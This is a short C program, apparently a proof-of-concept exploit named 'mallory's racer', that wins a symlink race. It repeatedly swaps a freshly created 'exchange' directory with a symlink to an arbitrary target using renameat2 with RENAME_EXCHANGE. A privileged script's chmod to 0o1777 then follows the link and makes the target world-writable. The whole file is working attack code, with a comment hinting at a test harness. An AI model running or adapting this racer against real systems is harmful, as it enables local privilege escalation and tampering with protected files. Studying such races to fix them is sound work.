/* mallory's racer: in her own folder DIR, DIR/lnk -> TARGET waits; the moment the TA's mkdir(DIR/exchange) lands,
   one renameat2(RENAME_EXCHANGE) swaps the new folder and the link, so the TA's next os.chmod(DIR/exchange, 0o1777)
   follows the link. */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
#include <fcntl.h>
#include <time.h>
#include <sys/syscall.h>
#include <linux/fs.h>
int main(int argc, char **argv) {
    char ex[512], ln[512]; int n = 0; time_t end = time(NULL) + atoi(argv[3]);
    snprintf(ex, sizeof ex, "%s/exchange", argv[1]);
    snprintf(ln, sizeof ln, "%s/lnk", argv[1]);
    for (;;) {
        unlink(ln);
        if (symlink(argv[2], ln) != 0) { perror("symlink"); return 1; }
        unsigned long spins = 0;
        while (syscall(SYS_renameat2, AT_FDCWD, ln, AT_FDCWD, ex, RENAME_EXCHANGE) != 0) {
            if ((++spins & 0xffff) == 0 && time(NULL) > end) return 0;
        }
        n++; printf("swapped %d\n", n); fflush(stdout);
        /* the harness removes DIR/exchange (now the link) after the TA's run */
        while (faccessat(AT_FDCWD, ex, F_OK, AT_SYMLINK_NOFOLLOW) == 0) usleep(1000);
        /* DIR/lnk is now the TA's folder: leave it; make a fresh link */
        char old[512]; snprintf(old, sizeof old, "%s/taken%d", argv[1], n); rename(ln, old);
    }
}
